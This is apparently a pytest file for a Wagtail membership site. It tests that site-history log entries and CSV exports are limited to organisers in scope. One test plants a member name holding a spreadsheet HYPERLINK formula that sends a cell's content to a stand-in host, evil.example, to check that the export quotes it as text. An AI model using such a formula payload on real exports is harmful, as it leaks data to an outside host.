"""Wagtail's site history (Reports → Site history) lists the log entries of
members: an organiser sees only those of members in their scope."""

import csv
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from members import services
from members.models import Member
from members.services import LOGIN_RESET_ACTION

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
PASSWORD = "Zx9!long-pass-word"


@pytest.fixture
def logged(tree, people):
    """A member of A1a, imported (her login is named by her phone), whose
    password the county organiser set and who then changed it herself: two
    entries against her in the log."""
    member = services.member_create(
        name="秘密成员", phone="13912345678", home_organisation=tree.a1a
    )
    services.member_password_set(member=member, password=PASSWORD, set_by=people.county)
    services.own_password_set(user=member.user, password=PASSWORD + "2")
    return member


def history(client, user, **params):
    client.force_login(user)
    page = client.get(reverse("wagtailadmin_reports:site_history"), params, **EN)
    results = client.get(
        reverse("wagtailadmin_reports:site_history_results"), params, **EN
    )
    assert page.status_code == 200 and results.status_code == 200
    return page.content.decode() + results.content.decode()


def exported(client, user) -> str:
    client.force_login(user)
    response = client.get(
        reverse("wagtailadmin_reports:site_history"), {"export": "csv"}, **EN
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_an_organiser_of_another_county_does_not_see_the_members_log_entries(
    client, people, logged
):
    # when county B1's organiser opens the site history, filtered or not, or
    # downloads it
    pages = [
        history(client, people.other_county),
        history(client, people.other_county, label="秘密"),
        exported(client, people.other_county),
    ]
    # then nothing names the member of county A1, nor who acted on her
    for text in pages:
        assert "秘密成员" not in text
        assert "13912345678" not in text
        assert "Set the login password" not in text


def test_the_home_side_and_a_superuser_see_the_members_log_entries(
    client, people, logged
):
    member_type = ContentType.objects.get_for_model(Member).pk
    for user in (people.county, people.city, people.superuser):
        text = history(client, user)
        assert "秘密成员" in text, user
        filtered = history(
            client, user, action=LOGIN_RESET_ACTION, object_type=member_type
        )
        assert "秘密成员" in filtered, user
        assert "Set the login password" in text, user
        assert "秘密成员" in exported(client, user), user


def test_the_branch_organiser_sees_them_and_a_neighbouring_county_does_not(
    client, tree, people, logged
):
    # given an organiser of county A2, A1's neighbour in the same city
    services.organiser_role_grant(user=people.plain, organisation=tree.a2)
    # then A1a's own organiser sees the member's entries, A2's does not
    assert "秘密成员" in history(client, people.branch)
    assert "秘密成员" not in history(client, people.plain)


def test_people_without_admin_access_are_sent_to_the_login_page(client, people, logged):
    url = reverse("wagtailadmin_reports:site_history")
    anonymous = client.get(url, **EN)
    client.force_login(people.helper)
    helper = client.get(url, **EN)
    for response in (anonymous, helper):
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_a_name_that_looks_like_a_formula_stays_text_in_the_download(
    client, tree, people
):
    # given a member whose name a spreadsheet would run as a formula, and whose
    # password the county organiser set (an entry naming her in the log)
    name = '=HYPERLINK("http://evil.example/?"&A3,"张三")'
    member = services.member_create(
        name=name, phone="13912345679", home_organisation=tree.a1a
    )
    services.member_password_set(member=member, password=PASSWORD, set_by=people.county)

    # when the county organiser downloads the site history as CSV
    rows = list(csv.reader(io.StringIO(exported(client, people.county))))

    # then her name is quoted as text, as in every other export
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + name in cells
    assert name not in cells
